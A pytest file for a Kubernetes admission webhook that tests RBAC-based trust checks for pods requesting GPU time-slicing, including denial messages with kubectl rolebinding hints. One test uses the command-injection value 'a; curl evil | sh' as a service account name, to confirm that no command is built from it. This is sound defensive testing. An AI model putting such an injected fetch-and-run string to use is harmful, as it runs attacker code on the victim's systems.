"""Reviews of a policy with trust by RBAC, by an application whose API server answers to order."""

import json
from collections.abc import Iterable
from dataclasses import replace
from typing import Any

import pytest

from tests.support.asking import ask
from tests.support.objects import Object, pod
from tests.support.policies import FACTS, POLICY, facts_of, policy_of
from webhook.api import admission
from webhook.engine.audit_mode import AuditMode
from webhook.engine.engine import Engine
from webhook.facts.rights import Account, Rights
from webhook.facts.snapshot import Facts
from webhook.policy.model import Policy
from webhook.policy.scopes import Grant, Scope
from webhook.rules import walk
from webhook.serving import app as serving


class Slow(Rights):
    """Knows nothing until it is asked; then it says yes to `trusted`, and nothing while it fails."""

    unknown = "nobody answers; try again"

    def __init__(self, *trusted: str) -> None:
        self._trusted, self.fails = trusted, False
        self.known: dict[Account, bool | None] = {}
        self.asked: list[tuple[str, ...]] = []
        self._noted: list[Account] = []

    def held(self, account: Account) -> bool | None:
        if account not in self.known and account not in self._noted:
            self._noted.append(account)
        return self.known.get(account)

    def noting(self) -> list[Account]:
        self._noted = []
        return self._noted

    def ask(self, accounts: Iterable[Account]) -> None:
        accounts = tuple(accounts)
        self.asked.append(tuple(account.name for account in accounts))
        self.known |= {account: None if self.fails else account.name in self._trusted for account in accounts}


def rbac(policy: Policy) -> Policy:
    return replace(policy, grants=(Grant(Scope(frozenset(), None, frozenset(), everywhere=True), rbac=True),))


@pytest.fixture
def policy() -> Policy:
    return rbac(policy_of(POLICY))


@pytest.fixture
def facts() -> Facts:
    return facts_of(FACTS)


def asked(app: serving.ReviewApplication, item: Object, path: str = "/validate") -> Object:
    answer = ask(app, path, admission.wrap(item))
    assert answer.status == 200, answer
    response: Object = json.loads(answer.body)["response"]
    return response


def trusting(account: str) -> Object:
    return pod(serviceAccountName=account, nodeSelector={"nvidia.com/gpu.sharing-strategy": "time-slicing"})


def application(policy: Policy, facts: Facts, rights: Rights, log: list[Any]) -> serving.ReviewApplication:
    known = replace(facts, rights=rights)
    return serving.ReviewApplication(Engine(policy, walk()), lambda: known, log.append)


def test_a_pod_is_judged_by_the_right_of_its_account(policy: Policy, facts: Facts) -> None:
    rights, log = Slow("trainer"), list[Any]()
    app = application(policy, facts, rights, log)
    assert "patch" in asked(app, trusting("trainer"), "/mutate")
    said = asked(app, trusting("other"))["status"]["message"]
    assert "unearned-trust" in said
    assert "use trustlevels.slicewarden.dev/trusted" in said
    assert (
        "kubectl create rolebinding slicewarden-trusted --clusterrole=slicewarden-trusted "
        "--serviceaccount=vision:other --namespace=vision" in said
    )
    assert rights.asked == [("trainer",), ("other",)], "what is known is not asked for again"
    assert len(log) == 2, "a review that waited is logged once"
    asked(app, trusting("other"))
    assert len(rights.asked) == 2


def test_a_pod_that_asks_for_no_trust_is_not_asked_about(policy: Policy, facts: Facts) -> None:
    rights = Slow()
    item = pod(serviceAccountName="trainer")
    del item["metadata"]["annotations"]
    asked(application(policy, facts, rights, []), item, "/mutate")
    assert rights.asked == []


def test_a_policy_without_rbac_asks_nobody(facts: Facts) -> None:
    rights = Slow()
    app = application(policy_of(POLICY), facts, rights, [])
    asked(app, trusting("trainer"), "/mutate")
    asked(app, trusting("trainer"))
    assert rights.asked == []


def test_where_no_answer_comes_the_pod_is_refused_and_told_why(policy: Policy, facts: Facts) -> None:
    rights = Slow("trainer")
    rights.fails = True
    said = asked(application(policy, facts, rights, []), trusting("trainer"))["status"]["message"]
    assert 'whether the service account "trainer" may use trustlevels.slicewarden.dev/trusted is not known' in said
    assert "nobody answers; try again" in said


def test_audit_mode_asks_too_and_lets_everything_through(policy: Policy, facts: Facts) -> None:
    rights, log = Slow(), list[Any]()
    known = replace(facts, rights=rights)
    app = serving.ReviewApplication(AuditMode(Engine(policy, walk())), lambda: known, log.append)
    assert asked(app, trusting("other"))["allowed"] is True
    assert rights.asked == [("other",)]
    assert [line["would"] for line in log] == ["deny"]


def test_no_command_is_made_of_a_name_that_no_account_has(policy: Policy, facts: Facts) -> None:
    said = asked(application(policy, facts, Slow(), []), trusting("a; curl evil | sh"))["status"]["message"]
    assert "--serviceaccount=NAMESPACE:ACCOUNT --namespace=NAMESPACE" in said
